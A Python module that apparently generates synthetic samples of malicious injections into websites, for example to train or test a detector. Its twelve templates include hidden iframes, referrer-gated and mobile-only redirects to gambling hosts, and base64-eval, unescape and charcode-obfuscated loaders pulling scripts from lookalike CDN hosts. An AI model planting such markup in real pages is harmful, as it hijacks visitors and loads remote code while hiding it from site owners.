"""One injected script, frame or redirect (the script family), in one of this edition's styles, to a
host the site never used: lookalikes of the CDNs and analytics Chinese sites load, or gambling hosts."""

# ruff: noqa: E501

from __future__ import annotations

import base64
import random

from .payloads import LOOKALIKES, REDIRECT_HOSTS

SCRIPT_STYLES = (
    "plain-src",
    "stat-snippet",
    "zero-frame",
    "meta-refresh",
    "search-referrer",
    "phone-only",
    "split-write",
    "base64-eval",
    "delayed-top",
    "deferred-src",
    "unescape-write",
    "charcode-src",
)


def _path(rng: random.Random) -> str:
    return rng.choice(
        (
            "/hm.js?",
            "/z_stat.js?id=",
            "/jquery.min.js?v=",
            "/js/common.js?t=",
            "/sdk/collect.js?k=",
            "/static/push.js?r=",
        )
    )


def script_snippet(rng: random.Random, style: str) -> tuple[str, str, str]:
    """The markup, where it goes (head, body-start, body-end) and the foreign host."""
    host = rng.choice(
        REDIRECT_HOSTS
        if style in ("zero-frame", "meta-refresh", "search-referrer", "phone-only", "delayed-top")
        else LOOKALIKES
    )
    url = f"https://{host}{_path(rng)}{rng.randrange(16**8):08x}"
    target = f"https://{host}/?from={rng.randrange(1000, 9999)}"
    if style == "plain-src":
        return f'<script type="text/javascript" src="{url}"></script>', rng.choice(("head", "body-end")), host
    if style == "stat-snippet":
        return (
            f'<script>\nvar _cnt = _cnt || [];\n(function() {{\n  var st = document.createElement("script");\n  st.src = "{url}";\n  var f = document.getElementsByTagName("script")[0];\n  f.parentNode.insertBefore(st, f);\n}})();\n</script>',
            "body-end",
            host,
        )
    if style == "zero-frame":
        return (
            f'<iframe src="{target}" width="0" height="0" frameborder="0" scrolling="no" style="display:none;visibility:hidden"></iframe>',
            "body-start",
            host,
        )
    if style == "meta-refresh":
        return f'<meta http-equiv="refresh" content="{rng.choice((0, 1, 3, 5))};url={target}">', "head", host
    if style == "search-referrer":
        return (
            f'<script>var rf=document.referrer.toLowerCase();if(rf.indexOf("baidu.")>-1||rf.indexOf("sogou.")>-1||rf.indexOf("so.com")>-1||rf.indexOf("sm.cn")>-1){{window.location.href="{target}";}}</script>',
            "head",
            host,
        )
    if style == "phone-only":
        return (
            f'<script>if(/Android|iPhone|iPad|MicroMessenger/i.test(navigator.userAgent)){{location.replace("{target}");}}</script>',
            "head",
            host,
        )
    if style == "split-write":
        return f"<script>document.write('<scr'+'ipt src=\"{url}\"></scr'+'ipt>');</script>", "body-end", host
    if style == "base64-eval":
        loader = f'var s=document.createElement("script");s.src="{url}";document.body.appendChild(s);'
        return (
            f'<script>eval(atob("{base64.b64encode(loader.encode()).decode()}"));</script>',
            "body-end",
            host,
        )
    if style == "delayed-top":
        return (
            f'<script>setTimeout(function(){{top.location.href="{target}";}},{rng.choice((1500, 3000, 8000))});</script>',
            "body-end",
            host,
        )
    if style == "deferred-src":
        return f'<script defer async src="{url}" charset="utf-8"></script>', "head", host
    if style == "unescape-write":
        raw = f'<script src="{url}"></script>'
        return (
            f"<script>document.write(unescape('{''.join(f'%{ord(c):02X}' for c in raw)}'));</script>",
            "body-end",
            host,
        )
    codes = ",".join(str(ord(c)) for c in url)
    return (
        f'<script>(function(){{var j=document.createElement("script");j.src=String.fromCharCode({codes});document.head.appendChild(j);}})();</script>',
        "body-end",
        host,
    )
